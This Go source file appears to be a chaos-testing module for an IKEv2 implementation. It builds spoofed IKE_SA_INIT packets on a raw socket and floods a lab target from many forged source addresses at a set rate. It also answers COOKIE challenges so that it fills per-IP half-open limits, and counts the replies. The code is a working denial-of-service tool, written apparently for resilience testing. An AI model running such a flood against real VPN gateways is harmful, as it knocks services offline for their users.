package chaos

import (
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"github.com/goswan/goswan/encoding"
)

// FloodOptions shape a half-open flood: IKE_SA_INIT requests, each with its
// own SPI, from spoofed sources, sent through a raw socket inside the
// attacker's namespace.
type FloodOptions struct {
	Target  netip.Addr
	Sources netip.Prefix
	// NumSources of Sources are used, round robin.
	NumSources int
	Rate       int // requests per second
	Duration   time.Duration
	// CookieSources of the sources (the first ones) play an attacker that
	// sees the answers: it repeats each request with the COOKIE it got,
	// to fill the per-IP half-open limit.
	CookieSources int
	// Iface is where the answers are captured (AF_PACKET).
	Iface string
}

// FloodResult is what the attacker saw.
type FloodResult struct {
	Sent, SendErrors uint64
	// Answers to spoofed sources: COOKIE challenges, and IKE_SA_INIT
	// responses that mean a half-open IKE_SA.
	Cookies, HalfOpenAnswers uint64
	// CookieRetries: requests repeated with a COOKIE; HalfOpenPerSource
	// is the most half-open answers one cookie source got within any
	// 30 s (half_open_timeout).
	CookieRetries     uint64
	HalfOpenPerSource int
	Seconds           float64
	Rate              float64 // achieved requests per second
}

// ikeSAInit builds an IKE_SA_INIT request that moon accepts (the lab's
// proposal) with a fixed key exchange value; the SPI is patched per
// packet.
func ikeSAInit(cookie []byte) ([]byte, error) { return ikeSAInitFrom(rand.Reader, cookie) }

// ikeSAInitFrom is ikeSAInit with its KE value and nonce read from r.
func ikeSAInitFrom(r io.Reader, cookie []byte) ([]byte, error) {
	m := encoding.NewMessage(encoding.ExchangeIKESAInit, 0)
	m.SPIi, m.Initiator = 1, true
	if cookie != nil {
		m.AddNotify(encoding.NotifyCookie, cookie)
	}
	ke := make([]byte, 32)
	nonce := make([]byte, 32)
	_, _ = io.ReadFull(r, ke)
	_, _ = io.ReadFull(r, nonce)
	m.Add(&encoding.SA{Proposals: []encoding.Proposal{{Number: 1, Protocol: encoding.ProtocolIKE, Transforms: []encoding.Transform{
		{Type: encoding.TransformType(1), ID: 12, Attributes: []encoding.TransformAttribute{encoding.KeyLengthAttribute(128)}},
		{Type: encoding.TransformType(3), ID: 12},
		{Type: encoding.TransformType(2), ID: 5},
		{Type: encoding.TransformType(4), ID: 31},
	}}}}, &encoding.KE{Group: 31, Data: ke}, &encoding.Nonce{Data: nonce})
	return m.Encode(nil, nil)
}

// ipv4UDP wraps payload in IPv4 and UDP headers (the kernel fills the IP
// checksum and ID; UDP checksum 0, which IPv4 allows).
func ipv4UDP(buf []byte, src, dst netip.Addr, sport, dport uint16, payload []byte) []byte {
	n := 20 + 8 + len(payload)
	buf = append(buf[:0], 0x45, 0, byte(n>>8), byte(n), 0, 0, 0x40, 0, 64, unix.IPPROTO_UDP, 0, 0)
	s, d := src.As4(), dst.As4()
	buf = append(buf, s[:]...)
	buf = append(buf, d[:]...)
	buf = binary.BigEndian.AppendUint16(buf, sport)
	buf = binary.BigEndian.AppendUint16(buf, dport)
	buf = binary.BigEndian.AppendUint16(buf, uint16(8+len(payload)))
	buf = append(buf, 0, 0)
	return append(buf, payload...)
}

// rawSender sends spoofed IPv4 datagrams.
type rawSender struct {
	fd int
	sa unix.SockaddrInet4
}

func newRawSender(dst netip.Addr) (*rawSender, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("raw socket: %w", err)
	}
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4<<20)
	return &rawSender{fd: fd, sa: unix.SockaddrInet4{Addr: dst.As4()}}, nil
}

func (r *rawSender) send(pkt []byte) error {
	for {
		err := unix.Sendto(r.fd, pkt, 0, &r.sa)
		if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
			time.Sleep(50 * time.Microsecond)
			continue
		}
		return err
	}
}

func (r *rawSender) close() { unix.Close(r.fd) }

// sourceAddr is the i-th address of p.
func sourceAddr(p netip.Prefix, i int) netip.Addr {
	b := p.Masked().Addr().As4()
	v := binary.BigEndian.Uint32(b[:]) + uint32(i) + 1
	binary.BigEndian.PutUint32(b[:], v)
	return netip.AddrFrom4(b)
}

// pace calls send rate times a second for d, in bursts every millisecond.
func pace(rate int, d time.Duration, send func()) (n uint64, took time.Duration) {
	t0 := time.Now()
	end := t0.Add(d)
	for now := t0; now.Before(end); now = time.Now() {
		due := uint64(float64(rate) * now.Sub(t0).Seconds())
		for n < due {
			send()
			n++
		}
		time.Sleep(time.Millisecond)
	}
	return n, time.Since(t0)
}

// Flood runs a half-open flood (the `chaos flood` command inside the
// attacker's namespace).
func Flood(o FloodOptions) (FloodResult, error) {
	var res FloodResult
	tmpl, err := ikeSAInit(nil)
	if err != nil {
		return res, err
	}
	snd, err := newRawSender(o.Target)
	if err != nil {
		return res, err
	}
	defer snd.close()
	cap, err := newCapture(o.Iface)
	if err != nil {
		return res, err
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	var cookies, answers, retries atomic.Uint64
	perSource := newWindowCounter(30 * time.Second)
	wg.Add(1)
	go func() {
		defer wg.Done()
		retry := make([]byte, 0, 1500)
		for {
			select {
			case <-stop:
				return
			default:
			}
			src, dst, ike, ok := cap.next(500 * time.Millisecond)
			if !ok || src != o.Target || !o.Sources.Contains(dst) {
				continue
			}
			m, err := encoding.Decode(ike)
			if err != nil || m.Exchange != encoding.ExchangeIKESAInit || !m.Response {
				continue
			}
			idx := int(binary.BigEndian.Uint32(dst.AsSlice()) - binary.BigEndian.Uint32(o.Sources.Masked().Addr().AsSlice()) - 1)
			if n := m.Notify(encoding.NotifyCookie); n != nil {
				cookies.Add(1)
				if idx < o.CookieSources {
					body, err := ikeSAInit(n.Data)
					if err != nil {
						continue
					}
					binary.BigEndian.PutUint64(body, m.SPIi)
					retry = ipv4UDP(retry, dst, o.Target, 500, 500, body)
					if snd.send(retry) == nil {
						retries.Add(1)
					}
				}
				continue
			}
			if m.First(encoding.PayloadSA) != nil {
				answers.Add(1)
				if idx < o.CookieSources {
					perSource.add(idx, time.Now())
				}
			}
		}
	}()
	body := append([]byte(nil), tmpl...)
	pkt := make([]byte, 0, 1500)
	var spi uint64 = 0x8000_0000_0000_0000
	var errs uint64
	i := 0
	sent, took := pace(o.Rate, o.Duration, func() {
		spi++
		binary.BigEndian.PutUint64(body, spi)
		pkt = ipv4UDP(pkt, sourceAddr(o.Sources, i%o.NumSources), o.Target, 500, 500, body)
		i++
		if snd.send(pkt) != nil {
			errs++
		}
	})
	// Answers still on their way.
	time.Sleep(time.Second)
	close(stop)
	wg.Wait()
	cap.close()
	res.Sent, res.SendErrors = sent, errs
	res.Cookies, res.HalfOpenAnswers, res.CookieRetries = cookies.Load(), answers.Load(), retries.Load()
	res.HalfOpenPerSource = perSource.most()
	res.Seconds = took.Seconds()
	res.Rate = float64(sent) / took.Seconds()
	return res, nil
}

// windowCounter finds the most events of one key within any window.
type windowCounter struct {
	mu     sync.Mutex
	window time.Duration
	events map[int][]time.Time
}

func newWindowCounter(w time.Duration) *windowCounter {
	return &windowCounter{window: w, events: map[int][]time.Time{}}
}

func (c *windowCounter) add(k int, t time.Time) {
	c.mu.Lock()
	c.events[k] = append(c.events[k], t)
	c.mu.Unlock()
}

func (c *windowCounter) most() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	best := 0
	for _, ts := range c.events {
		j := 0
		for i := range ts {
			for ts[i].Sub(ts[j]) >= c.window {
				j++
			}
			best = max(best, i-j+1)
		}
	}
	return best
}
